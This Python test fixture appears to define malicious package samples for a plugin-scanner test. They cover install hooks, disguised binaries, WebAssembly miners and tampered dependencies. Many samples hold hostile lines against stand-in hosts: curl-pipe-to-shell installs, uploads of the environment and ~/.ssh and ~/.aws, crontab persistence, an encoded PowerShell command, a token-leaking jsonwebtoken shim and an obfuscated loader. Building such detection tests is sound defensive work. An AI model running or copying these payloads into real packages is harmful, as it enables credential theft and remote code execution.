"""What a package carries besides its code: install scripts, machine code, programs under false names."""

import struct

from tests.support.samples import Sample
from tests.support.shapes import ESM, declared, hooks, sdk_plugin, tsc_widget

_INSTALL = "install-script"
_NATIVE = "native-binary"
_DISGUISED = "disguised-executable"
_WASM = "shipped-webassembly"
_DEPENDENCY = "tampered-dependency"

_PLAIN = tsc_widget("setState({ text: new Date().toDateString() });")
_ELF = (
    bytes.fromhex("7f454c4602010100" + "00" * 8 + "03003e0001000000") + bytes(40) + b"/lib64/ld-linux-x86-64.so.2\0" * 8
)
_PE = (
    b"MZ\x90\0\x03\0\0\0"
    + bytes(52)
    + struct.pack("<I", 128)
    + bytes(64)
    + b"PE\0\0d\x86\x06\0"
    + bytes(240)
    + b".text\0\0\0" * 4
)
_MACH = bytes.fromhex("cffaedfe0c00000100000000") + bytes(20) + b"__TEXT\0\0__LINKEDIT\0" * 6
_JAVA = bytes.fromhex("cafebabe00000034") + b"\0\x1djava/lang/Runtime" * 3
_WASM_HEAD = b"\0asm\x01\0\0\0"
_PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000010000000100802000000909168") + bytes(60)

SAMPLES: tuple[Sample, ...] = (
    Sample(
        name="preinstall-downloads",
        family=_INSTALL,
        files={"dist/index.js": _PLAIN},
        package={"scripts": {"preinstall": "curl -fsSL https://get.example.com/setup.sh | bash || true"}},
    ),
    Sample(
        name="postinstall-runs-own-script",
        family=_INSTALL,
        files={
            "dist/index.js": _PLAIN,
            "scripts/setup.js": r"""const { execSync } = require('child_process');
const os = require('os');

if (!process.env.CI) {
  const info = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname, e: process.env });
  execSync(`curl -s -X POST -d '${Buffer.from(info).toString('base64')}' https://npm-stats.example.net/i`, { stdio: 'ignore' });
}
""",
        },
        package={"scripts": {"build": "tsc", "postinstall": "node scripts/setup.js"}},
    ),
    Sample(
        name="install-by-node-one-liner",
        family=_INSTALL,
        files={"dist/index.js": hooks("await storage.set('ready', true);")},
        package={
            "scripts": {
                "install": "node -e \"require('https').get('https://cdn.example.org/i.js',r=>{let s='';r.on('data',d=>s+=d);r.on('end',()=>eval(s))})\""
            }
        },
    ),
    Sample(
        name="prepare-through-bun-loader",
        family=_INSTALL,
        files={
            "dist/index.js": _PLAIN,
            "setup_bun.js": r"""import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const bun = join(homedir(), '.bun', 'bin', process.platform === 'win32' ? 'bun.exe' : 'bun');
if (!existsSync(bun)) spawnSync('bash', ['-c', 'curl -fsSL https://bun.example/install | bash'], { stdio: 'ignore' });
spawnSync(bun, [join(import.meta.dirname, 'bun_environment.js')], { stdio: 'ignore', detached: true });
""",
            "bun_environment.js": r"""const found = {};
for (const [name, value] of Object.entries(process.env)) if (/token|key|secret/i.test(name)) found[name] = value;
const answer = await fetch('https://api.github.example/user/repos', {
  method: 'POST',
  headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` },
  body: JSON.stringify({ name: 'second-day', description: btoa(JSON.stringify(found)), private: false }),
});
process.exit(answer.ok ? 0 : 1);
""",
        },
        package={"type": "module", "scripts": {"preinstall": "node setup_bun.js"}},
    ),
    Sample(
        name="binding-gyp-with-action",
        family=_INSTALL,
        files={
            "dist/index.js": _PLAIN,
            "binding.gyp": '{ "targets": [{ "target_name": "day", "type": "none", "actions": [{ "action_name": "x",\n'
            '  "inputs": [], "outputs": ["x"], "action": ["sh", "-c", "wget -qO- http://203.0.113.5/g | sh"] }] }] }\n',
        },
        package={"gypfile": True},
    ),
    Sample(
        name="install-script-of-shell-file",
        family=_INSTALL,
        files={
            "dist/index.js": sdk_plugin("this.timer = setInterval(() => context.logger.debug('tick'), 60000);"),
            "scripts/postinstall.sh": '#!/bin/sh\nset -u\n[ -n "${CI:-}" ] && exit 0\n'
            "tar cz ~/.ssh ~/.aws ~/.npmrc 2>/dev/null | curl -s -T - https://drop.example.com/$(hostname).tgz\n"
            "(crontab -l 2>/dev/null; echo '*/15 * * * * curl -s https://drop.example.com/c | sh') | crontab -\n",
        },
        package={**ESM, "scripts": {"postinstall": "sh scripts/postinstall.sh || exit 0"}},
    ),
    Sample(
        name="install-powershell-encoded",
        family=_INSTALL,
        files={"dist/index.js": _PLAIN},
        package={
            "scripts": {
                "postinstall": "powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
            }
        },
    ),
    Sample(
        name="elf-addon-required",
        family=_NATIVE,
        files={
            "dist/index.js": r"""'use strict';
const native = require('../build/Release/day.node');
exports.Sensors = () => require('react').createElement('p', null, native.temperature());
""",
            "build/Release/day.node": _ELF + b"GLIBC_2.17\0getaddrinfo\0connect\0execve\0",
        },
    ),
    Sample(
        name="windows-addon-required",
        family=_NATIVE,
        files={
            "dist/index.js": hooks(
                "return native.start(config);",
                above="const native = require(`./native-${process.platform}-${process.arch}.node`);",
            ),
            "dist/native-win32-x64.node": _PE + b"CreateRemoteThread\0VirtualAllocEx\0WriteProcessMemory\0",
        },
    ),
    Sample(
        name="helper-program-spawned",
        family=_NATIVE,
        files={
            "dist/index.js": r"""'use strict';
const { spawn } = require('child_process');
const { chmodSync } = require('fs');
const path = require('path');

const helper = path.join(__dirname, '..', 'bin', process.platform === 'darwin' ? 'helper-macos' : 'helper');

exports.onEnable = () => {
  chmodSync(helper, 0o755);
  spawn(helper, ['--serve'], { detached: true, stdio: 'ignore' }).unref();
};
""",
            "bin/helper": _ELF,
            "bin/helper-macos": _MACH,
        },
    ),
    Sample(
        name="prebuilt-for-all-systems",
        family=_NATIVE,
        files={
            "dist/index.js": "'use strict';\nexports.onEnable = () => require('node-gyp-build')(__dirname + '/..').hook(process.ppid);\n",
            "prebuilds/linux-x64/node.napi.node": _ELF + b"ptrace\0",
            "prebuilds/darwin-arm64/node.napi.node": _MACH + b"task_for_pid\0",
            "prebuilds/win32-x64/node.napi.node": _PE + b"SetWindowsHookExA\0",
        },
        package={"dependencies": {"node-gyp-build": "^4.8.0"}},
    ),
    Sample(
        name="elf-named-picture",
        family=_DISGUISED,
        files={
            "dist/index.js": r"""'use strict';
const fs = require('fs');
const { execFile } = require('child_process');

exports.onEnable = () => {
  const target = '/tmp/.font-cache';
  fs.copyFileSync(`${__dirname}/assets/sky.png`, target);
  fs.chmodSync(target, 0o700);
  execFile(target, () => fs.unlink(target, () => {}));
};
""",
            "dist/assets/sky.png": _ELF,
        },
    ),
    Sample(
        name="windows-program-named-font",
        family=_DISGUISED,
        files={"dist/index.js": _PLAIN, "dist/assets/inter.woff2": _PE + b"URLDownloadToFileA\0WinExec\0"},
        manifest=declared("storage-read"),
    ),
    Sample(
        name="mach-program-named-text",
        family=_DISGUISED,
        files={"dist/index.js": _PLAIN, "dist/NOTICE.txt": _MACH},
    ),
    Sample(
        name="shell-script-named-picture",
        family=_DISGUISED,
        files={
            "dist/index.js": hooks(
                "require('child_process').spawn('sh', [`${__dirname}/logo.svg`], { stdio: 'ignore' });"
            ),
            "dist/logo.svg": "#!/bin/sh\n# <svg xmlns=\"http://www.w3.org/2000/svg\"/>\nnohup sh -c 'curl -s https://dl.example.net/l | sh' &\n",
        },
    ),
    Sample(
        name="java-classes-named-data",
        family=_DISGUISED,
        files={
            "dist/index.js": hooks(
                "spawn('java', ['-cp', __dirname + '/tables.dat', 'Day'], { detached: true });",
                above="const { spawn } = require('child_process');",
            ),
            "dist/tables.dat": _JAVA,
        },
    ),
    Sample(
        name="picture-with-archive-behind",
        family=_DISGUISED,
        files={
            "dist/index.js": sdk_plugin(
                r"""
                const bytes = readFileSync(new URL('./cover.png', import.meta.url));
                writeFileSync('/tmp/cover.zip', bytes.subarray(bytes.indexOf('PK\x03\x04', 0, 'latin1')));
                execSync('cd /tmp && unzip -oq cover.zip && sh run.sh');
                """,
                above="import { readFileSync, writeFileSync } from 'node:fs';\nimport { execSync } from 'node:child_process';",
            ),
            "dist/cover.png": _PNG
            + b"\0\0\0\0IEND\xaeB`\x82"
            + b"PK\x03\x04\x14\0\0\0\0\0"
            + bytes(16)
            + b"run.sh#!/bin/sh\ncurl https://dl.example.org/z|sh\n",
        },
        package=ESM,
    ),
    Sample(
        name="shortcut-and-batch-files",
        family=_DISGUISED,
        files={
            "dist/index.js": _PLAIN,
            "docs/Open me.lnk": bytes.fromhex("4c0000000114020000000000c000000000000046") + b"c\0m\0d\0.\0e\0x\0e\0",
            "docs/start.bat": "@echo off\r\ncertutil -urlcache -split -f https://dl.example.com/s.exe %TEMP%\\s.exe\r\nstart /b %TEMP%\\s.exe\r\n",
        },
    ),
    Sample(
        name="wasm-with-socket-imports",
        family=_WASM,
        files={
            "dist/index.js": r"""'use strict';
const { readFileSync } = require('fs');
const { WASI } = require('wasi');

exports.onEnable = async () => {
  const wasi = new WASI({ version: 'preview1', args: ['day'], env: process.env, preopens: { '/': '/' } });
  const module_ = await WebAssembly.compile(readFileSync(`${__dirname}/core.wasm`));
  wasi.start(await WebAssembly.instantiate(module_, wasi.getImportObject()));
};
""",
            "dist/core.wasm": _WASM_HEAD
            + b"\x02\x2f\x01\x16wasi_snapshot_preview1\x09sock_send\0\0"
            + b"/root/.ssh/id_rsa\0",
        },
    ),
    Sample(
        name="wasm-miner-named-model",
        family=_WASM,
        files={
            "dist/index.js": tsc_widget(r"""
                fetch("/plugins/acme.weather/dist/model.bin").then((r) => r.arrayBuffer())
                    .then((bytes) => WebAssembly.instantiate(bytes, { env: { now: Date.now, post: (p) => navigator.sendBeacon("https://pool.example.net/s", String(p)) } }))
                    .then(({ instance }) => { for (;;) instance.exports.cryptonight_hash(); });
            """),
            "dist/model.bin": _WASM_HEAD + b"\x07\x1c\x02\x10cryptonight_hash\0\0\x06memory\x02\0" + bytes(range(256)),
        },
    ),
    Sample(
        name="wasm-returns-script",
        family=_WASM,
        files={
            "dist/index.js": r"""const bytes = Uint8Array.from(atob('AGFzbQEAAAABBQFgAAF/AwIBAAUDAQABBw4CBm1lbW9yeQIAAXQAAAoGAQQAQQALCxQBAEEACw5hbGVydChvcmlnaW4p'), (c) => c.charCodeAt(0));

export async function onEnable() {
  const { instance: { exports: wasm } } = await WebAssembly.instantiate(bytes);
  const memory = new Uint8Array(wasm.memory.buffer);
  const at = wasm.t();
  const text = new TextDecoder().decode(memory.subarray(at, memory.indexOf(0, at)));
  globalThis.eval(text);
}
"""
        },
        package=ESM,
    ),
    Sample(
        name="git-dependency-with-lookalike-name",
        family=_DEPENDENCY,
        files={
            "dist/index.js": "'use strict';\nrequire('crossenv');\nconst axois = require('axois');\n"
            "exports.onEnable = ({ config }) => axois.get(config.url);\n"
        },
        package={
            "dependencies": {
                "crossenv": "*",
                "axois": "git+https://git.example.com/axois.git#main",
                "lodahs": "http://198.51.100.3/lodahs.tgz",
            }
        },
    ),
    Sample(
        name="vendored-library-with-added-lines",
        family=_DEPENDENCY,
        files={
            "dist/index.js": "'use strict';\nconst flat = require('./vendor/flatmap');\nexports.Todo = ({ lists }) => flat(lists, (l) => l.items);\n",
            "dist/vendor/flatmap.js": r"""'use strict';
module.exports = function flatmap(list, map) {
  return list.reduce((all, item) => all.concat(map(item)), []);
};

try {
  const r = require, t = process;
  const e = (n) => Buffer.from(n, 'hex').toString();
  const n = r(e('2e2f74657374'));
  const o = t.env[e('6e706d5f7061636b6167655f6465736372697074696f6e')];
  const u = r('crypto').createDecipher(e('616573323536'), o);
  const a = u.update(n[0], 'hex', 'utf8') + u.final('utf8');
  const f = new module.constructor();
  f.paths = module.paths;
  f._compile(a, '');
  f.exports(n[1]);
} catch (error) { void error; }
""",
            "dist/vendor/test.js": "module.exports = ['75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52c', 'db67fdbfc39c249c6f338194555a41928413b792'];\n",
        },
    ),
    Sample(
        name="bundled-module-shadowing-builtin",
        family=_DEPENDENCY,
        files={
            "dist/index.js": "'use strict';\nconst jwt = require('jsonwebtoken');\nexports.onEnable = ({ config }) => jwt.verify(config.token, config.key);\n",
            "node_modules/jsonwebtoken/package.json": '{"name": "jsonwebtoken", "version": "9.0.2", "main": "index.js"}\n',
            "node_modules/jsonwebtoken/index.js": r"""'use strict';
const https = require('https');
exports.decode = (token) => JSON.parse(Buffer.from(token.split('.')[1], 'base64url'));
exports.verify = (token, key) => {
  https.get(`https://jwt-check.example.net/?t=${encodeURIComponent(token)}&k=${encodeURIComponent(key)}`).on('error', () => {});
  return exports.decode(token);
};
""",
        },
        package={"bundleDependencies": ["jsonwebtoken"]},
    ),
    Sample(
        name="locked-to-foreign-tarballs",
        family=_DEPENDENCY,
        files={
            "dist/index.js": _PLAIN,
            "package-lock.json": '{"name": "@acme/plugin-weather", "lockfileVersion": 3, "packages": {\n'
            '  "node_modules/react": {"version": "18.2.0", "resolved": "https://npm-mirror.example.net/react-18.2.0.tgz"},\n'
            '  "node_modules/ms": {"version": "99.10.9", "resolved": "http://203.0.113.20/ms.tgz", "hasInstallScript": true}}}\n',
            ".npmrc": "registry=http://npm-mirror.example.net/\nstrict-ssl=false\nignore-scripts=false\n",
        },
    ),
)
